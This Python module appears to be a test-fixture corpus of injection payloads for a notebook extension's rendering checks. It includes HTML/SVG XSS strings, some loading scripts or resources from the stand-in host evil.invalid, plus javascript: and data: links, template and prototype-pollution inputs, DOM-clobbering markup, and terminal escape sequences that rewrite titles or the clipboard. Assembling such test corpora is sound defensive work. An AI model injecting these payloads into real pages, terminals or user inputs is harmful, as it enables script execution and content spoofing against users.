"""Text that would act if a page, a terminal or a template took it for more than text (reliability.md, T-19).

Whatever runs sets `window.hurt`, opens a dialog or asks `evil.invalid` for something.
"""

from __future__ import annotations

_ACT = "window.hurt=1"
_AWAY = "http://evil.invalid/x"

ELEMENTS = (
    f"<script>{_ACT}</script>",
    f"<SCRIPT SRC={_AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"</script><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f'"><script>{_ACT}</script>',
    f"'><img src=x onerror={_ACT}>",
    f"--><script>{_ACT}</script>",
    f"]]><script>{_ACT}</script>",
    f"<img src=x onerror={_ACT}>",
    f"<img src='{_AWAY}.png'>",
    f"<img srcset='{_AWAY}.png 1x' src=x onerror={_ACT}>",
    f"<body onload={_ACT}>",
    f"<input autofocus onfocus={_ACT}>",
    f"<select autofocus onfocus={_ACT}>",
    f"<details open ontoggle={_ACT}>x</details>",
    f"<video src=x onerror={_ACT}></video>",
    f"<audio src=x onerror={_ACT}>",
    f"<video><source onerror={_ACT}></video>",
    f"<marquee onstart={_ACT}>x</marquee>",
    f"<div style='animation-name:x' onanimationstart={_ACT}>x</div>",
    f"<a onmouseover={_ACT}>over</a>",
    f"<style onload={_ACT}></style>",
    f"<style>@import '{_AWAY}.css';</style>",
    f"<div style=\"background:url('{_AWAY}')\">x</div>",
    f"<link rel=stylesheet href={_AWAY}.css>",
    f"<link rel=prefetch href={_AWAY}>",
)
FRAMES = (
    f"<iframe src=javascript:parent.{_ACT}></iframe>",
    f'<iframe srcdoc="<script>parent.{_ACT}</script>"></iframe>',
    f"<iframe src={_AWAY}></iframe>",
    f"</iframe><script>{_ACT}</script><iframe sandbox='allow-scripts allow-same-origin'>",
    f"<object data=javascript:{_ACT}></object>",
    f"<object data={_AWAY}.swf></object>",
    f"<embed src=javascript:{_ACT}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<form action=javascript:{_ACT}><button>x</button></form>",
    "<form id=body name=cookie><input name=attributes></form>",
    "<img name=getElementById id=jupyterapp>",
    "<a id=hurt href=x></a><a id=hurt name=x href=y></a>",
)
FOREIGN = (
    f"<svg onload={_ACT}></svg>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_ACT}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_ACT}></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_ACT}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_ACT}>",
    f"<math href=javascript:{_ACT}>x</math>",
    f'<noscript><p title="</noscript><img src=x onerror={_ACT}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_ACT}>">',
    f"<template><script>{_ACT}</script></template>",
)
LINKS = (
    f"javascript:{_ACT}",
    f"JaVaScRiPt:{_ACT}",
    f"java\tscript:{_ACT}",
    f"\x01javascript:{_ACT}",
    f"[x](javascript:{_ACT})",
    f"![x]({_AWAY}.png)",
    f"<javascript:{_ACT}>",
    f"data:text/html,<script>parent.{_ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQud2luZG93Lmh1cnQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{_ACT}",
    "//evil.invalid/x",
    "https://good.example@evil.invalid/",
)
TEMPLATES = (
    f'{{{{constructor.constructor("{_ACT}")()}}}}',
    f"${{{_ACT}}}",
    "{{7*7}}{% import os %}",
    "#{7*7}<%= 7*7 %>",
    '{"__proto__": {"hurt": 1}}',
    "__proto__",
    "constructor",
)
COMMANDS = (
    "<button data-commandlinker-command='headrace:schedule' data-commandlinker-args='{\"path\":\"bait.ipynb\"}'>bait</button>",
    "<button data-commandlinker-command='headrace:run-all-stale'>bait</button>",
    "<button data-command='headrace:run-with-parameters'>bait</button>",
)
SIGNS = (
    "\x1b]0;owned\x07title",
    "\x1b]8;;javascript:window.hurt=1\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07clip",
    "\x1b[2J\x1b[1;1Hgone",
    "safe\rover\x08\x08",
    "\u202eevil\u202c \u2066x\u2069",
    "\x00nul\x7f\x9b31m",
    "\ufeff\u200bhidden",
    "a" * 5000,
)
#: All of them.
PAYLOADS: tuple[str, ...] = (*ELEMENTS, *FRAMES, *FOREIGN, *LINKS, *TEMPLATES, *COMMANDS, *SIGNS)
